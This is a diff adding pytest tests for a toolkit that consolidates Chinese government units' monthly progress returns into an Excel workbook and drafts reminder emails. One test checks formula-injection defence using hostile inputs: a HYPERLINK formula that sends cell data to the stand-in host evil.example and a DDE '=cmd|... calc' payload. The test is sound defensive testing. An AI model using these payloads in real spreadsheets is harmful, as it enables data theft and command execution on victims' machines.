@@ -1,0 +1,357 @@
+"""Issue 5: the consolidated workbook, task-status rule, 报送情况, status and reminders."""
+
+from __future__ import annotations
+
+import datetime as dt
+import email
+import json
+import re
+import zipfile
+from email import policy
+
+import pytest
+from openpyxl import load_workbook
+
+from conftest import drop, late, on_time
+from toolkit.checks import Row
+from toolkit.consolidate import consolidate, merge, task_status
+from toolkit.dates import Period
+from toolkit.filling import Answer, Filling
+from toolkit.intake import collect
+from toolkit.master import Task
+
+SZ = "市政务服务数据管理局"
+JUNE = Period(2022, 6)
+ON = Answer(status="序时推进", progress=50, work="按计划推进。")
+DONE = Answer(status="已完成", progress=100, work="已完成。", evidence="东政数〔2022〕8号")
+
+
+# ---------------------------------------------------------------------------
+# the rule, branch by branch
+
+
+def _task(deadline=None, ongoing=False) -> Task:
+    return Task("9.9", "一", "二", "名称", "内容", "2022年6月" if deadline else "长期开展", deadline, ongoing)
+
+
+def _row(status: str, progress: int | None = None) -> Row:
+    return Row("9.9", "牵头", status, progress, "进展", "", "", None, "")
+
+
+DUE_LATER = _task(dt.date(2022, 12, 31))
+DUE_NOW = _task(dt.date(2022, 6, 30))
+LONG_TERM = _task(ongoing=True)
+
+
+@pytest.mark.parametrize("task, leads, rows, expected", [
+    (DUE_LATER, ["A", "B"], {}, "未报送"),                                            # no lead reported
+    (DUE_LATER, ["A", "B"], {"A": _row("已完成"), "B": _row("已完成")}, "已完成"),     # all leads done
+    (DUE_LATER, ["A", "B"], {"A": _row("已完成")}, "序时推进"),                       # one lead missing
+    (DUE_NOW, ["A", "B"], {"A": _row("已完成"), "B": _row("已完成")}, "已完成"),       # done in time wins
+    (DUE_LATER, ["A", "B"], {"A": _row("滞后"), "B": _row("已完成")}, "滞后"),         # any lead 滞后
+    (DUE_NOW, ["A", "B"], {"A": _row("序时推进"), "B": _row("已完成")}, "滞后"),       # deadline passed unfinished
+    (DUE_NOW, ["A", "B"], {"A": _row("未启动")}, "滞后"),                             # overdue beats 未启动
+    (DUE_LATER, ["A", "B"], {"A": _row("未启动"), "B": _row("未启动")}, "未启动"),     # all reporting leads 未启动
+    (DUE_LATER, ["A", "B"], {"A": _row("未启动"), "B": _row("序时推进")}, "序时推进"),
+    (LONG_TERM, ["A"], {"A": _row("序时推进")}, "序时推进"),                          # 长期开展 never overdue
+    (LONG_TERM, ["A"], {"A": _row("滞后")}, "滞后"),
+    (LONG_TERM, ["A"], {"A": _row("已完成")}, "已完成"),
+    (LONG_TERM, [], {}, "未报送"),                                                   # no lead at all (16.1)
+])
+def test_task_status_rule(task, leads, rows, expected):
+    assert task_status(task, leads, rows, JUNE) == expected
+
+
+# ---------------------------------------------------------------------------
+# a month computed by hand
+
+
+@pytest.fixture
+def month(issued_ws, make_return):
+    """市政数局 on time, 市公安局 late, 虎门镇 returned, 石龙镇 sends twice; 50 units missing."""
+    sz = Filling(default=ON, answers={"1.1": DONE, "7.3": DONE,
+                                      "2.2": Answer(status="滞后", progress=60, work="系统改造中", problems="供应商延期"),
+                                      "3.3": Answer(status="未启动", progress=0, work="尚未开始，7月启动。")})
+    drop(issued_ws, "市政数局.xlsx", make_return(SZ, sz), on_time())
+    drop(issued_ws, "公安.xlsx", make_return("市公安局", Filling(default=ON)), late())
+    drop(issued_ws, "虎门.xlsx", make_return("虎门镇", Filling(default=ON, answers={
+        "1.2": Answer(status="滞后", problems="")})), on_time())
+    drop(issued_ws, "石龙1.xlsx", make_return("石龙镇", Filling(default=ON)), on_time() - 86400)
+    drop(issued_ws, "石龙2.xlsx", make_return("石龙镇", Filling(default=Answer(status="序时推进", progress=70,
+                                                                                work="第二版"))), on_time())
+    collect(issued_ws)
+    return issued_ws
+
+
+def test_overview_figures_by_hand(month):
+    result = merge(month, "2022-06")
+    # by hand (see the fixture): 已完成 1.1 7.3; 滞后 1.2 2.2 2.3 3.1 3.2; 未启动 3.3;
+    # 未报送 2.5 4.2 6.2 8.1 16.1; the other 30 序时推进. Overdue: 1.2 2.2 2.3 3.1 3.2.
+    cons = result.consolidation
+    status = {t.task.id: t.status for t in cons.tasks}
+    assert [k for k, v in status.items() if v == "已完成"] == ["1.1", "7.3"]
+    assert [k for k, v in status.items() if v == "滞后"] == ["1.2", "2.2", "2.3", "3.1", "3.2"]
+    assert [k for k, v in status.items() if v == "未启动"] == ["3.3"]
+    assert [k for k, v in status.items() if v == "未报送"] == ["2.5", "4.2", "6.2", "8.1", "16.1"]
+    assert [t.task.id for t in cons.overdue] == ["1.2", "2.2", "2.3", "3.1", "3.2"]
+    sheet = load_workbook(result.path)["总览"]
+    cells = {r[0]: r[1:3] for r in sheet.iter_rows(values_only=True) if r and r[0]}
+    assert cells["任务总数"] == (43, 1)
+    assert cells["已完成"] == (2, round(2 / 43, 4))
+    assert cells["序时推进"] == (30, round(30 / 43, 4))
+    assert cells["滞后"] == (5, round(5 / 43, 4))
+    assert cells["未启动"] == (1, round(1 / 43, 4))
+    assert cells["未报送"] == (5, round(5 / 43, 4))
+    assert cells["尚未报送"] == (50, round(50 / 54, 4))
+    assert cells["超期未完成（完成时限已过）"] == (5, round(5 / 43, 4))
+    assert cells["应报单位"] == (54, 1)
+    assert cells["按时报送"] == (2, round(2 / 54, 4))
+    assert cells["逾期报送"] == (1, round(1 / 54, 4))
+    assert cells["退回待改"] == (1, round(1 / 54, 4))
+    level1 = {r[0]: r[1:7] for r in sheet.iter_rows(values_only=True) if r and str(r[0]).startswith(("一、", "二、",
+                                                                                                       "三、", "四、", "五、"))
+              and isinstance(r[1], int)}
+    # 一、: 1.1 done; 1.2 2.2 2.3 3.1 3.2 滞后; 3.3 未启动; 2.5 未报送; 2.1 2.4 2.6 序时推进
+    assert level1["一、加强政务服务体系建设标准化"] == (1, 3, 5, 1, 1, 11)
+    assert level1["五、加强政务人员队伍建设"] == (0, 2, 0, 0, 1, 3)
+
+
+def test_units_sheet_states(month):
+    result = merge(month, "2022-06")
+    sheet = load_workbook(result.path)["报送情况"]
+    header = [c.value for c in sheet[3]]
+    assert header[:11] == ["单位", "类别", "应报任务数", "报送状态", "报送时间", "报送文件", "错误数", "警告数", "已完成数",
+                           "滞后数", "平均进度(%)"]
+    rows = {r[0]: r for r in sheet.iter_rows(min_row=4, values_only=True)}
+    assert len(rows) == 54
+    assert rows[SZ][3] == "已报送" and rows[SZ][5] == "市政数局.xlsx" and rows[SZ][8] == 2 and rows[SZ][9] == 1
+    assert rows["市公安局"][3] == "逾期报送" and rows["市公安局"][4] == "2022-07-08 09:30"
+    assert rows["虎门镇"][3] == "退回待改" and rows["虎门镇"][6] == 1
+    assert rows["石龙镇"][3] == "已报送" and rows["石龙镇"][5] == "石龙2.xlsx"
+    assert sum(r[3] == "未报送" for r in rows.values()) == 50
+    assert {r[3] for r in rows.values()} <= {"已报送", "逾期报送", "未报送", "退回待改"}
+
+
+def test_task_sheet_columns_and_texts(month):
+    result = merge(month, "2022-06")
+    sheet = load_workbook(result.path)["任务汇总"]
+    header = [c.value for c in sheet[3]]
+    assert header == ["任务编号", "一级任务", "二级任务", "工作任务", "完成时限", "牵头单位", "配合单位", "综合状态",
+                      "平均进度(%)", "是否超期", "各单位进展", "存在问题", "未报送单位"]
+    rows = {r[0]: r for r in sheet.iter_rows(min_row=4, values_only=True)}
+    assert rows["2.2"][7] == "滞后" and rows["2.2"][9] == "是" and rows["2.2"][11] == f"【{SZ}】供应商延期"
+    assert rows["2.4"][9] == "长期"
+    assert rows["5.3"][10] == "【石龙镇】第二版" and rows["5.3"][8] == 70
+    assert "虎门镇" in rows["5.3"][12] and "石龙镇" not in rows["5.3"][12]
+    assert rows["1.2"][5] == f"{SZ}、各镇街（园区）"
+
+
+def test_details_lagging_issues_history_receipts(month):
+    result = merge(month, "2022-06")
+    wb = load_workbook(result.path)
+    assert wb.sheetnames == ["总览", "任务汇总", "单位明细", "报送情况", "滞后超期", "校验问题", "历次进展", "收件登记"]
+    details = list(wb["单位明细"].iter_rows(min_row=4, values_only=True))
+    master = month.load_master()
+    assert len(details) == len(master.assignments)
+    assert [c.value for c in wb["单位明细"][3]][-2:] == ["报送文件", "报送时间"]
+    lagging = [r[0] for r in wb["滞后超期"].iter_rows(min_row=4, values_only=True)]
+    assert lagging == ["1.2", "2.2", "2.3", "3.1", "3.2"]
+    issues = list(wb["校验问题"].iter_rows(min_row=4, values_only=True))
+    assert [c.value for c in wb["校验问题"][3]][:7] == ["单位", "文件", "工作表", "单元格", "代码", "级别", "说明"]
+    assert ("虎门镇", "虎门.xlsx", "进展填报", "K5", "E603", "错误") in [r[:6] for r in issues]
+    assert any(r[4] == "W205" and r[1] == "石龙1.xlsx" for r in issues)
+    receipts = list(wb["收件登记"].iter_rows(min_row=4, values_only=True))
+    assert [c.value for c in wb["收件登记"][3]][:6] == ["序号", "原文件名", "来源", "接收时间", "单位", "结果"]
+    assert {r[1]: r[5] for r in receipts} == {"市政数局.xlsx": "采纳", "公安.xlsx": "采纳", "虎门.xlsx": "退回",
+                                             "石龙1.xlsx": "已被替代", "石龙2.xlsx": "采纳"}
+    assert all(re.fullmatch(r"[0-9a-f]{64}", r[9]) for r in receipts)
+    history_header = [c.value for c in wb["历次进展"][3]]
+    assert history_header == ["任务编号", "工作任务", "2022年6月状态", "2022年6月进度"]
+
+
+def test_history_has_every_period(month, make_return):
+    from toolkit.dispatch import issue_returns
+    from toolkit.filling import fill_return
+
+    path = issue_returns(month, "2022-05", units=[SZ]).files[0]
+    drop(month, "5月.xlsx", fill_return(path, Filling(default=Answer(status="序时推进", progress=20, work="启动"))),
+         dt.datetime(2022, 6, 2).timestamp())
+    collect(month)
+    wb = load_workbook(merge(month, "2022-06").path)
+    sheet = wb["历次进展"]
+    assert [c.value for c in sheet[3]][2:] == ["2022年5月状态", "2022年5月进度", "2022年6月状态", "2022年6月进度"]
+    row = next(r for r in sheet.iter_rows(min_row=4, values_only=True) if r[0] == "2.2")
+    assert row[2:] == ("滞后", 20, "滞后", 60)
+
+
+def test_rerun_gives_the_same_cell_values(month):
+    def values(path):
+        wb = load_workbook(path)
+        return {ws.title: [tuple(r) for r in ws.iter_rows(values_only=True)] for ws in wb}
+
+    first = values(merge(month, "2022-06").path)
+    second = values(merge(month, "2022-06").path)
+    assert first == second
+
+
+def test_injection_stays_text(issued_ws, make_return):
+    hostile = ['=HYPERLINK("http://evil.example/?x="&A1,"点此")', "+1+1", "-2-2", "@SUM(A1:A9)",
+               '=cmd|" /C calc"!A0', "_x0007_响铃_x001B_字符"]  # how xlsx stores control characters
+    answers = {f"{t}": Answer(status="序时推进", progress=10, work=text, problems=text)
+               for t, text in zip(["4.3", "5.1", "5.2", "5.3", "6.1", "6.3"], hostile)}
+    drop(issued_ws, "石龙镇.xlsx", make_return("石龙镇", Filling(answers={"1.2": DONE, **answers})), on_time())
+    collect(issued_ws)
+    path = merge(issued_ws, "2022-06").path
+    with zipfile.ZipFile(path) as z:
+        for name in z.namelist():
+            if name.startswith("xl/worksheets/sheet"):
+                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name), name
+    sheet = load_workbook(path)["单位明细"]
+    works = {r[8] for r in sheet.iter_rows(min_row=4, values_only=True) if r[4] == "石龙镇"}
+    for text in hostile[:5]:
+        assert text in works
+    assert "响铃字符" in works  # control characters removed
+
+
+def test_charts_reference_the_right_ranges(month):
+    path = merge(month, "2022-06").path
+    wb = load_workbook(path)
+    sheet = wb["总览"]
+    rows = {r[0].value: r[0].row for r in sheet.iter_rows() if r[0].value}
+    with zipfile.ZipFile(path) as z:
+        charts = [z.read(n).decode("utf-8") for n in sorted(z.namelist()) if n.startswith("xl/charts/chart")]
+    assert len(charts) == 3
+    refs = [re.findall(r"<(?:c:)?f>([^<]+)</(?:c:)?f>", c) for c in charts]
+    pie = refs[0]
+    assert f"'总览'!$B${rows['已完成']}:$B${rows['未报送']}" in pie
+    assert f"'总览'!$A${rows['已完成']}:$A${rows['未报送']}" in pie
+    first_level, last_level = rows["一、加强政务服务体系建设标准化"], rows["五、加强政务人员队伍建设"]
+    assert f"'总览'!$A${first_level}:$A${last_level}" in refs[1]
+    assert f"'总览'!$B${first_level}:$B${last_level}" in refs[1]
+    assert f"'总览'!$F${first_level}:$F${last_level}" in refs[1]
+    assert f"'总览'!$A${rows[SZ]}:$A${rows['松山湖高新区']}" in refs[2]
+    assert f"'总览'!$E${rows[SZ]}:$E${rows['松山湖高新区']}" in refs[2]
+    assert re.search(r"<(c:)?grouping val=\"stacked\"/>", charts[1])
+
+
+def test_layout(month):
+    wb = load_workbook(merge(month, "2022-06").path)
+    for ws in wb:
+        assert ws.page_setup.orientation == "landscape"
+        assert str(ws.page_setup.paperSize) == "9"
+        if ws.title != "总览":
+            assert ws.freeze_panes in ("A4", "B4")
+            assert ws.auto_filter.ref and ws.auto_filter.ref.startswith("A3:")
+            assert ws.print_title_rows == "$3:$3"
+            assert ws["A1"].font.b and "（2022年6月）" in ws["A1"].value or ws.title == "历次进展"
+            assert ws["A4"].font.name in ("宋体", "仿宋")
+    rules = wb["任务汇总"].conditional_formatting
+    formulas = {r.formula[0] for cf in rules for r in cf.rules}
+    assert {'"已完成"', '"滞后"', '"未报送"'} <= formulas
+
+
+@pytest.mark.libreoffice
+def test_libreoffice_opens_it(lo, month, tmp_path):
+    path = merge(month, "2022-06").path
+    pdf = lo(path, "pdf", tmp_path / "pdf")
+    assert pdf.stat().st_size > 10000
+    back = lo(path, "xlsx:Calc MS Excel 2007 XML", tmp_path / "back")
+    wb = load_workbook(back)
+    assert wb.sheetnames == ["总览", "任务汇总", "单位明细", "报送情况", "滞后超期", "校验问题", "历次进展", "收件登记"]
+    with zipfile.ZipFile(back) as z:
+        assert len([n for n in z.namelist() if n.startswith("xl/charts/chart")]) == 3
+
+
+def test_locked_target_keeps_the_old_file(run, month):
+    first = run(["merge"], cwd=month.root)
+    assert first.exit_code == 0
+    path = month.root / "汇总" / "2022年6月" / "2022年6月_进展汇总表.xlsx"
+    assert first.stdout.splitlines()[-1] == f"汇总表：{path}"
+    before = path.read_bytes()
+    lock = path.with_name("~$" + path.name)
+    lock.write_bytes(b"x")
+    again = run(["merge"], cwd=month.root)
+    assert again.exit_code == 2
+    assert again.stderr == f"错误：“{path.name}”正被 Excel/WPS 打开，请先关闭该文件再运行。\n"
+    assert path.read_bytes() == before
+    assert not list(path.parent.glob(".~duban-*"))
+
+
+def test_merge_before_any_collect(run, ws):
+    result = run(["merge"], cwd=ws.root)
+    assert result.exit_code == 1
+    assert result.stderr == "错误：还没有收取过任何报送。请先把报送文件放进收件箱，运行 duban collect。\n"
+
+
+# ---------------------------------------------------------------------------
+# a realistic month over every unit
+
+
+def test_real_month_every_unit(issued_ws, make_return):
+    master = issued_ws.load_master()
+    units = master.units_with_tasks()
+    expected = {}
+    for i, unit in enumerate(units):
+        kind = i % 9
+        bad = Filling(default=Answer(status="滞后", problems=""))
+        good = Filling(default=ON, answers={t.id: DONE for t, _ in master.tasks_of(unit)
+                                            if t.due_by(JUNE.end)})
+        if kind in (0, 1, 2, 3):
+            drop(issued_ws, f"{i}.xlsx", make_return(unit, good), on_time())
+            expected[unit] = "已报送"
+        elif kind == 4:
+            drop(issued_ws, f"{i}.xlsx", make_return(unit, good), late())
+            expected[unit] = "逾期报送"
+        elif kind == 5:
+            drop(issued_ws, f"{i}.xlsx", make_return(unit, bad), on_time())
+            expected[unit] = "退回待改"
+        elif kind == 6:  # returned, then fixed after the deadline
+            drop(issued_ws, f"{i}a.xlsx", make_return(unit, bad), on_time())
+            drop(issued_ws, f"{i}b.xlsx", make_return(unit, good), late())
+            expected[unit] = "逾期报送"
+        elif kind == 7:  # sent twice on time
+            drop(issued_ws, f"{i}a.xlsx", make_return(unit, good), on_time() - 3600)
+            drop(issued_ws, f"{i}b.xlsx", make_return(unit, good), on_time())
+            expected[unit] = "已报送"
+        else:
+            expected[unit] = "未报送"
+    collect(issued_ws)
+    cons = merge(issued_ws, "2022-06").consolidation
+    assert {u.unit: u.state for u in cons.units} == expected
+    counts = cons.unit_counts()
+    assert counts == {s: list(expected.values()).count(s) for s in ("已报送", "逾期报送", "未报送", "退回待改")}
+
+
+# ---------------------------------------------------------------------------
+# status and remind
+
+
+def test_status_formats(run, month):
+    table = run(["status"], cwd=month.root)
+    assert table.exit_code == 0
+    lines = table.stdout.splitlines()
+    assert lines[0] == "2022年6月报送情况（截止 2022-07-05）：应报 54，已报送 2，逾期报送 1，未报送 50，退回待改 1"
+    assert "  逾期报送 市公安局" + " " * 14 + "2022-07-08 09:30" in lines
+    assert not any(SZ in line for line in lines)  # on time units only with --all
+    assert any(SZ in line for line in run(["status", "--all"], cwd=month.root).stdout.splitlines())
+    data = json.loads(run(["status", "--format", "json"], cwd=month.root).stdout)
+    assert data["counts"] == {"已报送": 2, "逾期报送": 1, "未报送": 50, "退回待改": 1}
+    assert len(data["units"]) == 54
+    csv_lines = run(["status", "--format", "csv"], cwd=month.root).stdout.splitlines()
+    assert csv_lines[0] == "单位,类别,应报任务数,报送状态,报送时间,报送文件,错误数,警告数,已完成数,滞后数"
+    assert len(csv_lines) == 55
+
+
+def test_remind_drafts(run, month):
+    result = run(["remind", "--attach"], cwd=month.root)
+    assert result.exit_code == 0
+    folder = month.root / "汇总" / "2022年6月" / "催报邮件"
+    assert result.stdout.splitlines()[0] == f"已为 51 个单位写好催报邮件草稿：{folder}"
+    msg = email.message_from_bytes((folder / "催报_虎门镇.eml").read_bytes(), policy=policy.default)
+    body = msg.get_body(("plain",)).get_content()
+    assert "经校验存在错误" in body and "1.2（牵头）对标对表提升整改" in body
+    missing = email.message_from_bytes((folder / "催报_市民政局.eml").read_bytes(), policy=policy.default)
+    text = missing.get_body(("plain",)).get_content()
+    assert "尚未收到" in text and "2022年7月5日" in text
+    assert [a.get_filename() for a in missing.iter_attachments()] == ["2022年6月_市民政局_进展填报表.xlsx"]
+    assert not (folder / "催报_石龙镇.eml").exists()
